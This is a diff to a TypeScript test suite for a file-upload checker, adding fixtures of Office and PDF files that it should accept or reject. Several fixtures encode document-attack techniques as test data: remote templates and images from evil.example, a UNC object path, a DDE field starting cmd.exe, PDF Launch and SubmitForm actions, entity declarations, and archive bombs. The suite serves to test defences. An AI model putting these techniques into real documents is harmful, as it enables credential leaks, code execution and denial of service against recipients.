@@ -5,7 +5,7 @@ import path from 'node:path';
 import { test } from 'node:test';
 import sharp from 'sharp';
 import { AppError, checkFile, type CheckedFile } from '../../../../src/plugins/platform/server/public';
-import { SIGNATURE, mp3, mp4, odf, ooxml, packedObjects, pdf, photograph, picture, pixelBomb, pngWithSize, program, zipOf } from '../../../support/made-files';
+import { SIGNATURE, lyingZip, mp3, mp4, odf, ooxml, packedObjects, pdf, photograph, picture, pixelBomb, pngWithSize, program, relationship, sharingZip, zipOf } from '../../../support/made-files';
 
 const DAY = '2025-02-20';
 
@@ -44,6 +44,9 @@ for (const [name, bytes, mime] of [
   ['anh.JPG', () => picture().jpeg().toBuffer(), 'image/jpeg'],
   ['anh.gif', () => picture(60, 40).gif().toBuffer(), 'image/gif'],
   ['quet.tiff', () => picture().tiff().toBuffer(), 'image/tiff'],
+  ['lien-ket.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'hyperlink', 'https://backan.gov.vn/'), relationship('word/_rels/header1.xml.rels', 'hyperlink', 'phu-luc.docx')]), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+  ['bieu-do.docx', () => ooxml('docx', [{ name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx', text: ooxml('xlsx') }]), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+  ['goi.pdf', () => pdf({ objects: packedObjects('7 0 << /S /URI /URI (https://backan.gov.vn) >>') }), 'application/pdf'],
   ['bai-noi.mp3', () => mp3(), 'audio/mpeg'],
   ['phim.mp4', () => mp4(), 'video/mp4'],
 ] as const) {
@@ -76,6 +79,28 @@ for (const [title, name, bytes, declared] of [
   ['an ODT with a Basic macro', 'bao-cao.odt', () => odf('text', [{ name: 'Basic/Standard/Module1.xml', text: 'x' }]), null],
   ['a program with a DOCX at its tail', 'bao-cao.docx', () => Buffer.concat([program(), ooxml('docx')]), null],
   ['a DOCX with bytes behind it', 'bao-cao.docx', () => Buffer.concat([ooxml('docx'), Buffer.from(HTML)]), null],
+  ['a DOCX whose type of a macro is written with escapes', 'bao-cao.docx', () => ooxml('docx', [], '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>'), null],
+  ['a DOCX with a template from elsewhere', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://evil.example/a.dotm')]), null],
+  ['a DOCX with a picture from elsewhere', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'image', 'https://evil.example/a.png')]), null],
+  ['a DOCX with an object from elsewhere', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'oleObject', '\\\\evil.example\\a.doc')]), null],
+  ['a DOCX whose outside is written with escapes', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/a.xml.rels', 'frame', 'https://evil.example/', '&#69;xternal')]), null],
+  ['a DOCX with a link to a share', 'bao-cao.docx', () => ooxml('docx', [relationship('word/_rels/document.xml.rels', 'hyperlink', 'file://evil.example/a')]), null],
+  ['a DOCX with an embedded object', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/oleObject1.bin', text: 'x' }]), null],
+  ['a DOCX with a program inside', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/a.exe', text: 'x' }]), null],
+  ['a DOCX with an archive inside', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/media/a.zip', text: zipOf([{ name: 'a', text: 'a' }]) }]), null],
+  ['a DOCX with a table inside that has a macro', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/t.xlsx', text: ooxml('xlsx', [{ name: 'xl/vbaProject.bin', text: 'x' }]) }]), null],
+  ['a DOCX with a document inside a table inside', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/embeddings/t.xlsx', text: ooxml('xlsx', [{ name: 'xl/embeddings/d.docx', text: ooxml('docx') }]) }]), null],
+  ['a DOCX with a field that starts programs', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/header1.xml', text: '<w:hdr><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:hdr>' }]), null],
+  ['a DOCX with entities of its own', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/theme.xml', text: `<?xml version="1.0"?><!--${'x'.repeat(9000)}--><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>` }]), null],
+  ['a DOCX in UTF-16', 'bao-cao.docx', () => ooxml('docx', [{ name: 'word/a.xml', text: Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><a/>', 'utf16le') }]), null],
+  ['an XLSX with links to other tables', 'bang.xlsx', () => ooxml('xlsx', [{ name: 'xl/externalLinks/externalLink1.xml', text: '<a/>' }]), null],
+  ['an XLSX with a connection', 'bang.xlsx', () => ooxml('xlsx', [{ name: 'xl/connections.xml', text: '<a/>' }]), null],
+  ['an ODT with a picture from elsewhere', 'bao-cao.odt', () => odf('text', [{ name: 'styles.xml', text: '<draw:image xlink:href="https://evil.example/a.png"/>' }]), null],
+  ['an ODT with a listener', 'bao-cao.odt', () => odf('text', [{ name: 'styles.xml', text: '<script:event-listener xlink:href="vnd.sun.star.script:x"/>' }]), null],
+  ['an archive bomb', 'bom.docx', () => ooxml('docx', [{ name: 'word/media/a.png', text: Buffer.alloc(30 * 1024 * 1024) }]), null],
+  ['an archive bomb that lies about its size', 'bom.docx', () => lyingZip(), null],
+  ['an archive whose entries share their bytes', 'bom.docx', () => sharingZip(), null],
+  ['an archive of too many entries', 'bom.docx', () => ooxml('docx', Array.from({ length: 5001 }, (_, index) => ({ name: `word/${index}.txt`, text: '' }))), null],
   ['an old Office file named .docx', 'bao-cao.docx', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]), null],
   ['a GIF that is a script too', 'anh.gif', () => Buffer.from('GIF89a/*' + '\0'.repeat(20) + '*/=1;alert(1)//'), 'image/gif'],
   ['a JPEG cut off', 'anh.jpg', async () => (await picture().jpeg().toBuffer()).subarray(0, 20_000), 'image/jpeg'],
@@ -92,6 +117,14 @@ for (const [title, name, bytes, declared] of [
   ['a PDF with an escaped name for JavaScript', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj' }), 'application/pdf'],
   ['a PDF with JavaScript in packed objects', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << /S /JavaScript /JS (x) >>') }), 'application/pdf'],
   ['a PDF that starts a program', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj' }), 'application/pdf'],
+  ['a PDF that sends its form', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj' }), 'application/pdf'],
+  ['a PDF that fetches data', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /S /ImportData /F (a.fdf) >>\nendobj' }), 'application/pdf'],
+  ['a PDF with a form in XML', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /XFA 8 0 R >>\nendobj' }), 'application/pdf'],
+  ['a PDF with a file inside', 'ma.pdf', () => pdf({ objects: '7 0 obj\n<< /Names << /EmbeddedFiles 8 0 R >> >>\nendobj' }), 'application/pdf'],
+  ['a PDF with a file inside, in packed objects', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << /Type /EmbeddedFile >>') }), 'application/pdf'],
+  ['a PDF whose objects are packed twice', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << >>').replace('/Filter /FlateDecode', '/Filter [/ASCIIHexDecode /FlateDecode]') }), 'application/pdf'],
+  ['a PDF whose packed objects are cut off', 'ma.pdf', () => pdf({ objects: packedObjects('7 0 << /S /GoTo >>'.repeat(50)).replace(/(stream\n[^]{12})[^]*\nendstream/, '$1\nendstream') }), 'application/pdf'],
+  ['a PDF whose packed objects are a bomb', 'ma.pdf', () => pdf({ objects: packedObjects(' '.repeat(70 * 1024 * 1024)) }), 'application/pdf'],
   ['text that is not UTF-8', 'cu.txt', () => Buffer.from([0x42, 0xb9, 0xbf, 0x63, 0xff]), 'text/plain'],
   ['text with NUL', 'la.csv', () => Buffer.from('a,b\0,c'), 'text/csv'],
   ['rich text named .txt', 'la.txt', () => Buffer.from('{\\rtf1 xin chao}'), 'text/plain'],
